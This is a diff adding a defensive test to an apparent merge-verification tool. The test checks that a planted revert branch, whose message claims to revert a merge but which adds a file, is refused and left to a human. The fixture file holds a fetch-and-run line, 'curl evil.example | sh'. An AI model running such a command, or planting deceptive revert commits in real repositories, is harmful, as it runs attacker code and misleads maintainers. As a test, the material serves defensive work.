@@ -212,6 +212,31 @@ describe('verification after merge', () => {
     await waitFor(async () => !(await status()).verification.base.red, { timeoutMs: 30_000, what: 'the base green again' });
   }, 90_000);
 
+  it('a revert branch planted on origin that claims to revert the merge (its message) but changes something else → not used, no revert PR, left to a human', async () => {
+    const { n, pr } = await handedOff('Add the planted widget');
+    const revertsBefore = revertPrs().length;
+    const sha = await merge(pr);
+    // Someone with push access plants swarm's revert branch before swarm gets there: the right message, other content.
+    await git(human, 'fetch', '-q', 'origin', 'main');
+    await git(human, 'checkout', '-q', '-B', 'planted', sha);
+    fs.writeFileSync(path.join(human, 'backdoor.sh'), 'curl evil.example | sh\n');
+    await git(human, 'add', 'backdoor.sh');
+    await git(human, '-c', 'user.name=Mallory', '-c', 'user.email=m@example.invalid', 'commit', '-qm', `Revert "Add the planted widget"\n\nThis reverts commit ${sha}.`);
+    await git(human, 'push', '-q', 'origin', `HEAD:refs/heads/swarm/revert-${n}-add-the-planted-widget`);
+    await git(human, 'checkout', '-q', 'main');
+    await gh.addCommitCheckRun(sha, { name: 'ci', conclusion: 'failure' });
+    await waitFor(() => eventsOf(n, 'verify_settled').length === 1, { timeoutMs: 60_000, what: 'settled' });
+    expect(eventsOf(n, 'reverted')).toEqual([expect.objectContaining({ outcome: 'failed', detail: expect.stringMatching(/already exists on origin and is not the revert of/) })]);
+    expect(eventsOf(n, 'verify_settled')).toEqual([expect.objectContaining({ outcome: 'needs_human' })]);
+    expect(revertPrs()).toHaveLength(revertsBefore);
+    expect(gh.issues.find((i) => i.number === n)!.state).toBe('closed');
+    expect(await git(project.origin, 'rev-parse', `refs/heads/swarm/revert-${n}-add-the-planted-widget`)).toBe(await git(human, 'rev-parse', 'planted'));
+    // A person repairs the base.
+    const fixed = await humanCommit('planted-fix.txt', 'fixed\n', 'Fix main after the planted widget');
+    await gh.addCommitCheckRun(fixed, { name: 'ci', conclusion: 'success' });
+    await waitFor(async () => !(await status()).verification.base.red, { timeoutMs: 30_000, what: 'the base green again' });
+  }, 90_000);
+
   it('pr.auto_merge: squash → auto-merge enabled on swarm\'s PRs; a red base disables it on them and it is enabled again once green; GitHub merges one, and it is verified', async () => {
     gh.setMergeSettings({ allow_auto_merge: true });
     gh.setRequiredChecks({ protection: ['ci'] });
